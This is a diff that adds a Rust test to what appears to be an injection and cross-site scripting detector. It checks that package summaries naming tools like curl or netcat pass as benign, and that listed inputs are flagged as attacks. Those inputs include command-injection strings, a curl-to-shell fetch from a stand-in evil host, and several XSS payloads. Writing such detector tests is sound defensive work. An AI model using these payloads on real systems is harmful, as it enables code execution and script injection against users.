@@ -1014,3 +1014,54 @@ fn wapiti_shapes() {
         Context::Auto,
     );
 }
+
+/// Short technical prose (package summaries from PyPI and npm, 926 000 of them measured in
+/// session 12): tool and language names and JavaScript names written about, not run.
+#[test]
+fn tools_named_in_prose() {
+    assert_benign(
+        &[
+            "A CLI & Python library to fetch real-time geo-data",
+            "A fix for Poetry; Python dependency management and packaging made easy.",
+            "Discord SNEK Cog; Alias",
+            "Curl like tool with AWS request signing",
+            "PowerShell grammar for tree-sitter",
+            "Netcat with cmd exec, connect, listen and (local/remote) port-forwarding modes.",
+            "Tool & python package for calculating genome wide pileup mappability",
+            "五彩 Python API | python API for wucai",
+            "An angular (8+) SDK for secure access to the LUSID&reg; by FINBOURNE web API",
+            "Teradata coding standards regarding linting, commit standards, & more",
+            "A powerful print() replacement with colors, tables, effects, and logging",
+            "A module for evaluating math expressions without eval()",
+            "Replace alert() with a toast in the order screen",
+            "Promised Window.open();",
+            "Bought on Monday & Python desk confirmed",
+        ],
+        Context::Auto,
+    );
+    assert_attacks(
+        &[
+            "& Dir C:\\",
+            "| Python -c 'import os'",
+            "& python x.py",
+            "| python3",
+            "; perl -e 'print 1'",
+            "a&copy C:\\x y",
+            "; Whoami",
+            "Curl http://evil.example/x.sh | sh",
+        ],
+        Class::Cmdi,
+    );
+    assert_attacks(
+        &[
+            "onerror=print()",
+            "';print()//",
+            "print()",
+            "\"><svg onload=alert()>",
+            "javascript:alert()",
+            "x';eval(atob('YWxlcnQoMSk='));//",
+            "window.open('//evil')",
+        ],
+        Class::Xss,
+    );
+}
